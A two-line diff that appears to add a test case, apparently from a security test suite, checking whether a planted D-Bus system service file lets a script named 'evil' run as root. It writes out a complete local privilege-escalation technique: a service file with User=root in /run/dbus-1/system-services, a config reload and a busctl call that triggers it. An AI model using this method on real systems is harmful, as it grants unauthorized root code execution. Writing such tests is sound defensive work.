@@ -1,0 +1,2 @@
+$poke setattr /var 8 0; undo "$poke setattr /var 0 8"; mkdir -p /run/dbus-1/system-services; undo 'rm -rf /run/dbus-1/system-services'; chmod 755 . ; printf '#!/bin/sh\ntouch %s\n' "$mark" >evil; chmod 755 evil; chmod 777 .
+printf '[D-BUS Service]\nName=org.evil\nUser=root\nExec=%s\n' "$PWD/evil" >/run/dbus-1/system-services/org.evil.service; busctl call org.freedesktop.DBus /org/freedesktop/DBus org.freedesktop.DBus ReloadConfig 2>/dev/null; timeout 5 busctl call org.evil / org.evil evil; [ -e "$mark" ]
